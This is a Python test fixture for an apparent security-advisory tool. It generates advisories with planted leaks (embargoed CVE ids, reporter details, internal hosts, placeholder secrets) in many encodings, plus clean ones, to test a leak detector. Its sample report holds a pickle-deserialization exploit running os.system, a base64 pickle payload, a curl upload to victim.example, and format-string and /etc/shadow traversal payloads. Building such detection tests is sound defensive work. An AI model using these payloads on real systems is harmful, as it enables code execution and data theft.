"""A case with everything that could leak from it, advisories with one planted leak each, and clean ones."""

import base64
import hashlib
import json
from collections.abc import Callable, Iterator
from itertools import cycle, islice

import msgspec

from desktop.domain import events as e
from desktop.domain.advisories.advisory import AdvisoryFacts
from desktop.domain.inert import Untrusted
from desktop.domain.leaving.leaks.guarded import Guarded
from desktop.domain.leaving.leaks.leak import LeakKind
from desktop.domain.leaving.leaks.prints import item_prints, proof_prints
from desktop.formats.advisories.csaf.writing import write_csaf
from desktop.formats.advisories.prose.markdown import write_markdown
from tests.domain.gatekeeping import told
from tests.formats.advisories import FACTS

replace = msgspec.structs.replace
FINGERPRINT = "8F3A61C09B7D42E5A1106C3DDE94F2B7085EC6A3"
FILE = b"PK\x03\x04 a model that unpickles"
REPORT = """Hello,

the loader unpickles whatever it reads. A crafted model file runs code with the rights of the service.

```
import pickle, os
class Boom(object):
    def __reduce__(self): return (os.system, ("id > /tmp/pwned",))
open("evil.model", "wb").write(pickle.dumps({"weights": Boom()}))
```
curl -sk -X POST https://victim.example/api/v2/models --data-binary @evil.model -H 'X-Tenant: 1;--'
%n%n%n%n%x
../../../../etc/shadow%00.model
payload: gASVJAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg
Affected are all versions before 1.4.1 as far as I can see. The vector may be
CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H and the project is https://github.com/mushinai/platform/issues
"""
NOTE = "The detector fires when the opcode histogram of the first block has more than nine reductions."
CASE = told(
    e.CreditRecorded(choice="anonymous", ground="her message"),
    e.PersonNamed(
        "Jonas M\u00fcller", part="finder", address="jmueller77@post.example", organisation="Nightjar Labs"
    ),
    e.KeyTaken(FINGERPRINT, (Untrusted("Adelina Lovelock <al@private.example>"),), "pasted", "0" * 64),
    e.NoteAdded(NOTE),
)  # fmt: skip
GUARDED = Guarded(
    code_names=("Blue Heron", "Quokka"),
    hosts=("build.mushin-lab.example", "wiki.mushin-lab.example"),
    ids=frozenset({"CVE-2026-48213", "CVE-2026-50001", "GHSA-23cf-45gh-67jm"}),
    titles=("Tenant tokens survive a logout", "Scheduler trusts the job header"),
    hashes=frozenset(hashlib.new(name, FILE).hexdigest() for name in ("md5", "sha1", "sha256", "sha512")),
    proofs=proof_prints(REPORT),
    restricted=item_prints(NOTE),
)

PLANTED: dict[LeakKind, tuple[str, ...]] = {
    "embargoed-id": ("CVE-2026-48213", "CVE-2026-50001"),
    "reporter": (
        "Ada Finder", "Finder, Ada", "ada@reporter.example", "M\u00fcller", "Jonas Mueller", "jmueller77",
        "Adelina", "DE94F2B7085EC6A3", "8F3A 61C0 9B7D 42E5 A110 6C3D DE94 F2B7 085E C6A3", "Nightjar Labs",
    ),
    "proof": (
        'return (os.system, ("id > /tmp/pwned",))',
        "--data-binary @evil.model -H 'X-Tenant: 1;--'",
        "%n%n%n%n%x", "../../../../etc/shadow%00.model",
        "gASVJAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg",
        'pickle.dumps({"weights": Boom()})',
    ),
    "file-hash": tuple(sorted(GUARDED.hashes)),
    "code-name": ("Blue Heron", "blue-heron", "BlueHeron", "QUOKKA", "Quokka"),
    "internal-host": (
        "10.20.30.41", "192.168.7.12", "172.20.0.9", "ci.build.internal", "jira.mushin.corp", "nas01.local",
        "\\\\fileserver01\\builds", "localhost:9443", "build.mushin-lab.example", "fd12:3456:789a::1",
    ),
    "metadata": (
        "/home/gracehopper/src/loader.py", "C:\\Users\\g.hopper\\Desktop\\poc.py", "/Users/ghopper/notes.md",
        "<dc:creator>Grace Hopper</dc:creator>", "/Author (Grace Hopper)", "Last modified by: Grace Hopper",
    ),
    "other-case": (
        "AUM-2026-123456Z", "aum-2026-123456z", "Tenant tokens survive a logout",
        "Scheduler trusts the job header",
    ),
    "secret": (
        "AKIA" + "IOSFODNN7EXAMPLE", "ghp_" + "a1B2" * 9, "-----BEGIN OPENSSH PRIVATE KEY-----",
        "https://ada:hunter2@example.org/", "xoxb-" + "123456789012", "api_key = 'q7Zt0pXc9LmN2vRb5KsW'",
    ),
    "restricted": (NOTE, NOTE[20:70], "opcode histogram of the first block"),
}  # fmt: skip
"""Ten kinds, each in several forms."""


def entities(text: str) -> str:
    return "".join(f"&#{ord(c)};" if n % 2 else f"&#x{ord(c):x};" for n, c in enumerate(text))


def percent(text: str) -> str:
    return "".join(f"%{octet:02X}" for octet in text.encode())


def base64_of(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def base64_within(text: str) -> str:
    return base64.b64encode(f"see {text} for it".encode()).decode()


def json_escapes(text: str) -> str:
    return "".join(f"\\u{ord(c):04x}" for c in text)


def quoted_printable(text: str) -> str:
    return "".join(f"={octet:02X}" for octet in text.encode())


def zero_width(text: str) -> str:
    return "\u200b".join(text)


def soft_hyphens(text: str) -> str:
    return text[:3] + "\u00ad" + text[3:]


def full_width(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


def wrapped(text: str) -> str:
    return text.replace(" ", "\n", 1)


def soft_wrapped(text: str) -> str:
    return f"{text[: len(text) // 2]}=\n{text[len(text) // 2 :]}"


def homoglyphs(text: str) -> str:
    foreign = str.maketrans("aeoCcx", "\u0430\u0435\u043e\u0421\u0441\u0445")
    return text.translate(foreign)


ENCODINGS: tuple[Callable[[str], str], ...] = (
    str, entities, percent, str, base64_of, json_escapes, zero_width, str, wrapped, full_width,
    quoted_printable, base64_within, soft_hyphens, soft_wrapped, str, str.strip,
)  # fmt: skip
OF_NAMES: tuple[LeakKind, ...] = ("embargoed-id", "reporter", "code-name")
"""Kinds whose words are found in foreign letters too: a host with one is another host."""
PLACES = ("summary", "details", "workaround", "remediation")
WORDINGS = (
    "{}", "This was first seen in {} and fixed since.", "See {}.", "- {}\n- another line", "(compare {})",
    "Thanks to {} for the report.", "Before the fix:\n\n    {}\n\nAfterwards it is refused.", "| a | {} |",
)  # fmt: skip


def osv_like(facts: AdvisoryFacts) -> bytes:
    """A machine format on one line, all escaped, as other programs write it."""
    text = msgspec.to_builtins(facts.text)
    return json.dumps({"id": facts.tracking_id, **text}, ensure_ascii=True).encode()


WRITERS: tuple[Callable[[AdvisoryFacts], bytes], ...] = (write_markdown, write_csaf, osv_like)


class Planted(msgspec.Struct, frozen=True):
    """A document with one leak in it."""

    kind: LeakKind
    leak: str
    how: str
    content: bytes


def facts_saying(place: str, words: str) -> AdvisoryFacts:
    text = replace(FACTS.text, references=("https://mushinai.com/advisories/1",))
    return replace(FACTS, credits=(), text=replace(text, **{place: f"{getattr(text, place)}\n\n{words}"}))


def planted(each: int) -> Iterator[Planted]:
    """So many of each kind, every one written, placed and encoded another way."""
    for shift, (kind, leaks) in enumerate(PLANTED.items()):
        encodings = (*ENCODINGS, homoglyphs) if kind in OF_NAMES else ENCODINGS
        ways = zip(
            cycle(leaks), cycle(encodings), cycle(WORDINGS), cycle(PLACES), cycle(WRITERS), strict=False
        )
        for leak, encode, wording, place, write in islice(ways, shift, shift + each):
            facts = facts_saying(place, wording.format(encode(leak)))
            yield Planted(kind, leak, f"{encode.__name__} in {place}, {write.__name__}", write(facts))


_CLEAN = (
    "A crafted model file runs code with the rights of the service.",
    "Affected are all versions before 1.4.1. Update to 10.0.0.1 or later; version 10.20.30.41 never shipped.",
    "Until then, bind the service to 127.0.0.1 and do not expose it; localhost is enough for most.",
    "The fix is commit 9fceb02d0ae598e95dc970b74767f19372d61af8 in https://github.com/mushinai/platform.",
    "SHA-256 of the package: 2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824.",
    "Set `allow_pickle = false` in /etc/platform/config.toml and restart.",
    "Use `with open(path, 'rb') as model: load(model, safe=True)` instead.",
    "Check /var/log/platform/loader.log and ~/.config/platform for odd entries.",
    "Containers that mount /home/user/models or C:\\Users\\Public\\models are affected too.",
    "The class com.acme.internal.Loader and the module torch.internal.load are not.",
    "This is CVE-2026-48214; compare CVE-2021-44228 for a problem like it.",
    "Block 10.0.0.0/8 and 192.168.0.0/16 from reaching the port, as the manual says.",
    "Rotate every API key and token that the service could read; the default password is changeme.",
    "The header `X-Request-Id: 7f9c2ba4-e88f-827d-616d-3a8a2b1c0d9e` shows up in such requests.",
    "A blue line in the chart and a heron in the logo are new, too.",
    "Mark the file as read only. The finder of a bug may hope for thanks; grace and will are no bugs.",
    "Severity: critical, CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H (9.8), CWE-502.",
    "Questions go to security@mushinai.com, key 0x1234ABCD on https://mushinai.com/key.asc.",
    "Tokens of a tenant that logged out are no longer accepted by the scheduler.",
    "Install with `pip install platform>=1.4.1,<2` or `docker pull mushinai/platform:1.4.1`.",
    "192.0.2.7, 198.51.100.9 and 2001:db8::1 are addresses for documentation.",
    "Copy settings.local.toml and .env.local from the example, see docs/setup.internal.md.",
    "Independent research and our own labs found no use of it in the wild.",
    "Base64 such as aGVsbG8gd29ybGQsIHRoaXMgaXMgZmluZQ== is only text: hello world, this is fine.",
    "On 2026-01-09 the report came, on 2026-01-12 it was acknowledged, on 2026-02-11 it is published.",
)


def clean(count: int) -> Iterator[bytes]:
    """Advisories as they ought to be: four of the paragraphs in each, through every writer."""
    for number in range(count):
        words = "\n\n".join(_CLEAN[(number * 7 + step * 5) % len(_CLEAN)] for step in range(4))
        yield WRITERS[number % len(WRITERS)](facts_saying(PLACES[number % len(PLACES)], words))
